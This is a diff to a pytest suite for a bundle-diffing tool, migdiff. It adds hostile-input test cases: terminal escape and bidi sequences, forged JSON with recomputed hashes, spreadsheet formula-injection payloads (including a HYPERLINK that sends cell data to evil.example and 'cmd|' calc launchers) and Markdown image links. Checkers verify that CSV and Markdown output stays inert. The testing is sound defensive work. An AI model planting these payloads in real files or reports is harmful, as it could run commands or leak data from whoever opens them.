@@ -14,10 +14,13 @@ HOME and XDG_CONFIG_HOME pointed at empty folders, and checks:
 """
 from __future__ import annotations
 
+import csv
 import gzip
 import hashlib
+import io
 import json
 import os
+import re
 import random
 import subprocess
 import sys
@@ -29,9 +32,10 @@ from typing import Callable
 
 import pytest
 
+import migsnap
 from conftest import SAMPLES
-from crafted import (GNU_MAGIC, GzipStream, edit_json, fix_manifest, members, tar_bytes, tar_data, tar_header,
-                     with_manifest_last, write_bomb, write_many_members, write_tgz)
+from crafted import (GNU_MAGIC, GzipStream, edit_json, fix_manifest, members, recollect, sign, tar_bytes, tar_data,
+                     tar_header, with_manifest_last, write_bomb, write_many_members, write_tgz)
 from migdiff.bundle import DEFAULT_LIMITS, DOCUMENTS, MAX_JSON_CONTAINERS, read_bundle
 from migdiff.errors import BundleError
 from migdiff.validate import validate
@@ -47,7 +51,8 @@ REAL = SAMPLES / "debian12-systemd.tgz"
 class Real:
     path: Path
     top: str
-    files: dict[str, bytes]
+    files: dict[str, bytes]     # as this collector writes them from the sample's raw files
+    original: dict[str, bytes]  # as the sample bundle holds them
 
     def copy(self) -> dict[str, bytes]:
         return dict(self.files)
@@ -65,7 +70,9 @@ def real() -> Real:
     if not REAL.exists():
         pytest.fail(f"{REAL} is missing (see sample_bundles/README.md)")
     top, files = members(REAL)
-    return Real(REAL, top, files)
+    # as this very collector would have written it from the sample's raw files: migdiff re-parses
+    # a bundle only when it was written by the collector build it carries (manifest's sha256)
+    return Real(REAL, top, recollect(files), files)
 
 
 @pytest.fixture(scope="module")
@@ -290,19 +297,163 @@ def b_listed_twice(real, out):
     _changed(real, out, lambda files: edit_json(files, "manifest.json", edit))
 
 
+def _recollected(real: Real, out: Path, change: Callable[[dict[str, bytes]], None] | None = None,
+                 edit_entries=None, **collector) -> None:
+    """The real bundle with `change` applied to its raw files, then rebuilt by this collector from
+    them (parsed.json, snapshot.json and the manifest agree with the raw files)."""
+    files = real.copy()
+    if change:
+        change(files)
+    write_tgz(out, with_manifest_last(recollect(files, edit_entries, **collector), real.top))
+
+
 def b_raw_binary(real, out):
     # legitimate: a raw output is whatever the command printed, invalid UTF-8, NUL and escapes included
     def change(files):
         files[real.raw] = b"\xff\xfe\x00bad \xc3\x28 utf-8\x00\x1b]0;owned\x07\x1b[2J\r\n" + files[real.raw]
-    _changed(real, out, change, real.raw)
+    _recollected(real, out, change)
 
 
 def b_snapshot_escapes(real, out):
-    # what a parser would make of such output: terminal escapes in host data (hashes right: valid)
+    # terminal escapes in host data, hashes right, but not what the raw files say: a forgery
     def edit(doc):
         doc["system"]["hostname"] = "evil\x1b]0;owned\x07\x1b[2J\r\nname"
         doc["system"]["kernel_release"] = "6.1\x9b31m\u202eevil"
     _edit_doc("snapshot.json", edit)(real, out)
+
+
+# --- semantic cases: well-formed bundles whose content is hostile ------------------------------------
+
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066"
+
+
+def b_raw_escapes(real, out):
+    # what a host may really print: escapes and bidi overrides in the hostname, the arch, a package's arch
+    def change(files):
+        files["raw/hostname.out"] = f"web{ESCAPES}1\n".encode()
+        files["raw/uname-m.out"] = f"x86_64{ESCAPES}\n".encode()
+        lines = files["raw/dpkg-query.out"].decode().splitlines(keepends=True)
+        name, version, arch, rest = lines[0].split("\t", 3)
+        lines[0] = "\t".join([name, version, arch + ESCAPES, rest])
+        files["raw/dpkg-query.out"] = "".join(lines).encode()
+    _recollected(real, out, change)
+
+
+# a package line of dpkg-query, as the collector's format asks for it
+def _package_line(name: str, version: str) -> str:
+    return "\t".join([name, version, "amd64", "install ok installed", "optional", "no", "admin", "", "", "", ""]) + "\n"
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "`![x](http://evil.example/p.png)`|col", "a|b`c`![y](http://evil.example/q)"]
+
+
+def b_raw_formulas(real, out):
+    # package names and versions a spreadsheet would run, or that break out of a Markdown table
+    def change(files):
+        extra = "".join(_package_line(name, "-1") for name in FORMULAS)
+        files["raw/dpkg-query.out"] = files["raw/dpkg-query.out"] + extra.encode()
+    _recollected(real, out, change)
+
+
+def b_raw_giant(real, out):
+    # a kernel release of 16 MiB (the collector's own cap for one output): every presenter caps it
+    def change(files):
+        files["raw/uname-r.out"] = b"6.1." + b"7" * GIANT + b"\n"
+    _recollected(real, out, change)
+
+
+def b_forged_snapshot(real, out):
+    # a package's version changed in snapshot.json, the manifest's sha256 recomputed
+    def edit(doc):
+        doc["packages"][len(doc["packages"]) // 2]["version"] = "99.9-forged"
+    _changed(real, out, lambda files: _compact_edit(files, "snapshot.json", edit), "snapshot.json")
+
+
+def b_forged_parsed(real, out):
+    def edit(doc):
+        doc["entries"]["dpkg-query"]["data"][3]["version"] = "99.9-forged"
+    _changed(real, out, lambda files: _compact_edit(files, "parsed.json", edit), "parsed.json")
+
+
+def _compact_edit(files: dict[str, bytes], name: str, edit) -> None:
+    doc = json.loads(files[name])
+    edit(doc)
+    files[name] = migsnap.json_bytes(doc, pretty=False)
+
+
+def b_duplicate_key(real, out):
+    # one object with a key twice: readers disagree on which one counts (Python's json: the last)
+    def change(files):
+        data = files["snapshot.json"]
+        files["snapshot.json"] = data.replace(b'"hostname":', b'"hostname":"evil","hostname":', 1)
+    _changed(real, out, change, "snapshot.json")
+
+
+def b_manifest_infinity(real, out):
+    def change(files):
+        data = files["manifest.json"]
+        start = data.index(b'"duration": ')
+        end = data.index(b",", start)
+        files["manifest.json"] = data[:start] + b'"duration": Infinity' + data[end:]
+    _changed(real, out, change)
+
+
+def _only_released(version: str):
+    """The entries of a released collector's table, and no other (a later one may have more)."""
+    from migdiff.trust import RELEASED
+
+    def keep(entries):
+        entries[:] = [entry for entry in entries if entry["id"] in RELEASED[version]]
+    return keep
+
+
+def _drop_entry(entry_id: str):
+    return lambda entries: entries.remove(next(e for e in entries if e["id"] == entry_id))
+
+
+def b_entry_twice(real, out):
+    _recollected(real, out, edit_entries=lambda entries: entries.append(dict(entries[0])))
+
+
+def b_entry_unknown(real, out):
+    def edit(manifest):
+        entry = dict(manifest["entries"][0], id="evil-extra", files=[])
+        manifest["entries"].append(entry)
+    _changed(real, out, lambda files: edit_json(files, "manifest.json", edit))
+
+
+def b_signature_in_raw(real, out):
+    _slip(real, out, f"{real.top}/raw/{migsnap.SIGNATURE_NAME}", b'{"format": "migsnap-signature"}\n')
+
+
+def b_signature_wrong(real, out):
+    _slip(real, out, f"{real.top}/{migsnap.SIGNATURE_NAME}",
+          b'{"format": "migsnap-signature", "format_version": 1, "algorithm": "MD5", "key_id": "x", "mac": "y"}\n')
+
+
+def b_signature_huge(real, out):
+    _slip(real, out, f"{real.top}/{migsnap.SIGNATURE_NAME}", b" " * MiB + b"{}")
+
+
+def b_signed(real, out):
+    write_tgz(out, with_manifest_last(sign(real.copy(), b"site key kept in the safe"), real.top))
+
+
+def b_fifo_bundle(real, out):
+    os.mkfifo(out)
+
+
+def b_dev_zero(real, out):
+    out.symlink_to("/dev/zero")
+
+
+def b_over_reparse_limit(real, out):
+    # two raw outputs of 40 MiB each, under every container limit, listed with their sha256
+    def change(files):
+        files["raw/uname-r.out"] = b"6.1\n" + b"a\n" * (20 * MiB)
+        files["raw/uname-m.out"] = b"x86_64\n" + b"b\n" * (20 * MiB)
+    _recollected(real, out, change)
 
 
 def b_unrelated(real, out):
@@ -398,7 +549,46 @@ CASES: list[tuple[str, Callable, int, str]] = [
      _doc_text("manifest.json", lambda d: _splice(d, ["hostname"], b'"caf\xe9"')), 2,
      "manifest.json is not UTF-8"),
     ("raw output: invalid UTF-8, NUL, escapes (valid)", b_raw_binary, 0, ": OK (host "),
-    ("snapshot.json: terminal escapes in host data (valid)", b_snapshot_escapes, 0, ": OK (host "),
+    ("snapshot.json: terminal escapes in host data, not from the raw files", b_snapshot_escapes, 1,
+     "snapshot.json disagrees with the raw files: $.system.hostname"),
+    # semantic: well-formed, hashes right, hostile content
+    ("raw output: terminal escapes and bidi overrides reach the snapshot (valid)", b_raw_escapes, 0, ": OK (host "),
+    ("raw output: spreadsheet formulas and Markdown in package names (valid)", b_raw_formulas, 0, ": OK (host "),
+    ("raw output: a 16 MiB kernel release (valid)", b_raw_giant, 0, ": OK (host "),
+    ("snapshot.json: a package version forged, manifest sha256 recomputed", b_forged_snapshot, 1,
+     "snapshot.json disagrees with the raw files: $.packages["),
+    ("parsed.json: a package version forged, manifest sha256 recomputed", b_forged_parsed, 1,
+     "parsed.json disagrees with the raw files: $.entries['dpkg-query'].data[3].version"),
+    ("snapshot.json: a key twice in one object", b_duplicate_key, 1,
+     "snapshot.json: key 'hostname' appears twice in one object"),
+    ("manifest.json: Infinity where a duration goes", b_manifest_infinity, 2,
+     "manifest.json is not valid JSON: Infinity"),
+    ("manifest lacks an entry of its collector's table", lambda real, out: _recollected(
+        real, out, edit_entries=_drop_entry("apk-world")), 1,
+     f"manifest.json lacks 1 entry of migsnap {migsnap.__version__}'s table: apk-world"),
+    ("an entry twice in the manifest", b_entry_twice, 1, "manifest.json: entry uname-r appears twice"),
+    ("an entry its collector's table does not have", b_entry_unknown, 1,
+     f"manifest.json: 1 entry not in migsnap {migsnap.__version__}'s table: evil-extra"),
+    ("migsnap 0.1.0 with entries it never had",
+     lambda real, out: _recollected(real, out, edit_entries=_only_released("0.2.0"), version="0.1.0",
+                                    sha256="0" * 64), 1,
+     "manifest.json: 4 entries not in migsnap 0.1.0's table: apk-world, etc-default, init-scripts, pid-files"),
+    ("this collector build under another version", lambda real, out: _recollected(real, out, version="0.1.0"), 1,
+     f"manifest.json: the collector's sha256 is this migdiff's migsnap {migsnap.__version__}, its version says 0.1.0"),
+    ("a collector version this migdiff does not know (valid, entries unchecked)",
+     lambda real, out: _recollected(real, out, version="7.7.7", sha256="1" * 64), 0,
+     "entries not checked: migsnap 7.7.7 is not a collector this migdiff knows"),
+    ("another build of the collector (valid, not re-parsed)",
+     lambda real, out: _recollected(real, out, sha256="0" * 64), 0, "not re-parsed: another build of migsnap"),
+    ("raw files over the re-parse limit", b_over_reparse_limit, 1,
+     "over the 67108864-byte re-parse limit (--max-reparse-size)"),
+    ("signature.json in raw/, not in the manifest", b_signature_in_raw, 1,
+     "raw/signature.json: in the bundle but not in the manifest"),
+    ("signature.json: not a migsnap signature", b_signature_wrong, 1, "signature.json: algorithm is 'MD5'"),
+    ("signature.json of 1 MiB", b_signature_huge, 2, "signature.json is 1048578 bytes"),
+    ("a signature, no key given (valid, not verified)", b_signed, 0, "signed, key "),
+    ("a FIFO given as the bundle", b_fifo_bundle, 2, "is a FIFO, not a regular file"),
+    ("a symlink to /dev/zero given as the bundle", b_dev_zero, 2, "is a character device, not a regular file"),
     ("one flipped byte in a raw file", b_flipped, 1, ": sha256 does not match the manifest"),
     ("manifest lists an absent file", b_absent, 1, ": listed in the manifest but not in the bundle"),
     ("an extra file the manifest does not list", b_extra, 1,
@@ -449,7 +639,7 @@ def migdiff(*args: str | Path, cwd: Path, env: dict[str, str], logs: Path) -> Ru
     with open(out, "wb") as o, open(err, "wb") as e:
         subprocess.run([sys.executable, "-S", "-c", LAUNCHER, str(usage), sys.executable, "-m", "migdiff",
                         *map(str, args)], cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=o, stderr=e,
-                       timeout=600, check=True)
+                       timeout=300, check=True)
     code, rss_kb = map(int, usage.read_text().split())
     return Run(code, out.read_bytes().decode("utf-8", "replace"), err.read_bytes().decode("utf-8", "replace"),
                rss_kb / 1024)
@@ -497,6 +687,36 @@ def one_line(run: Run, stream: str, path: Path) -> str:
     return lines[0]
 
 
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+LONGEST = 20_000  # no value is shown whole past a few thousand characters
+
+
+def csv_is_inert(text: str) -> None:
+    """No cell a spreadsheet would run as a formula (a plain number is a number), no control characters."""
+    assert printable(text), [ch for ch in text if not ch.isprintable() and ch != "\n"][:10]
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.match(cell), cell[:200]
+            assert len(cell) < LONGEST, f"a cell of {len(cell)} characters"
+
+
+def markdown_is_inert(text: str) -> None:
+    """Every table row has as many cells as its header; no image, link or HTML from host data."""
+    assert printable(text), [ch for ch in text if not ch.isprintable() and ch != "\n"][:10]
+    cells = None
+    for line in text.splitlines():
+        assert len(line) < 4 * LONGEST, f"a line of {len(line)} characters"
+        if not line.startswith("|"):
+            cells = None
+            continue
+        count = len(re.findall(r"(?<!\\)\|", line))
+        if cells is None:
+            cells = count
+        assert count == cells, line[:300]
+        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<[a-zA-Z/]|(?<!\\)&#", line), line[:300]
+
+
 # --- the table --------------------------------------------------------------------------------------
 
 @pytest.mark.parametrize("case, build, expected, words", CASES, ids=[c[0] for c in CASES])
@@ -529,6 +749,17 @@ def test_hostile_bundle(case: str, build, expected: int, words: str, real: Real,
         shown = sandbox.run("show", bundle)
         assert shown.code == 0 and shown.err == "" and "Traceback" not in shown.out, shown.err[:2000]
         assert printable(shown.out), [ch for ch in shown.out if not ch.isprintable() and ch != "\n"][:10]
+        assert shown.rss_mb < MAX_RSS_MB, f"show peaked at {shown.rss_mb:.0f} MB"
+        for fmt, check in (("csv", csv_is_inert), ("markdown", markdown_is_inert)):
+            written = sandbox.root / "out" / f"report.{fmt}"
+            rendered = sandbox.run("diff", bundle, real.path, "--format", fmt, "-o", written)
+            assert rendered.code in (0, 1) and rendered.err == "", (fmt, rendered.code, rendered.err[:2000])
+            assert rendered.rss_mb < MAX_RSS_MB, f"diff --format {fmt} peaked at {rendered.rss_mb:.0f} MB"
+            check(written.read_text(encoding="utf-8"))
+            written.unlink()
+        md = sandbox.run("show", bundle, "--format", "markdown")
+        assert md.code == 0 and md.rss_mb < MAX_RSS_MB, (md.code, md.err[:2000], md.rss_mb)
+        markdown_is_inert(md.out)
     else:
         # diff refuses what validate would not pass: exit 2, one line (INVALID for the readable ones)
         assert diffed.code == 2, (diffed.code, diffed.out[:2000], diffed.err[:2000])
@@ -574,14 +805,14 @@ def test_the_collectors_own_writer_reads(host_bundle: Path) -> None:
 def test_only_the_documents_are_kept_and_every_file_is_hashed(real: Real) -> None:
     bundle = read_bundle(real.path)
     assert set(bundle.files) == DOCUMENTS
-    assert bundle.digests == {n: (len(d), hashlib.sha256(d).hexdigest()) for n, d in real.files.items()}
-    assert all(bundle.files[n] == real.files[n] for n in DOCUMENTS)
+    assert bundle.digests == {n: (len(d), hashlib.sha256(d).hexdigest()) for n, d in real.original.items()}
+    assert all(bundle.files[n] == real.original[n] for n in DOCUMENTS)
 
 
 def test_keep_raw_keeps_every_file(real: Real) -> None:
     bundle = read_bundle(real.path, keep_raw=True)
-    assert bundle.files == real.files and bundle.keep_raw
-    assert set(bundle.digests) == set(real.files)
+    assert bundle.files == real.original and bundle.keep_raw
+    assert set(bundle.digests) == set(real.original)
 
 
 def test_reading_holds_no_member_in_memory(real: Real, tmp_path: Path) -> None:
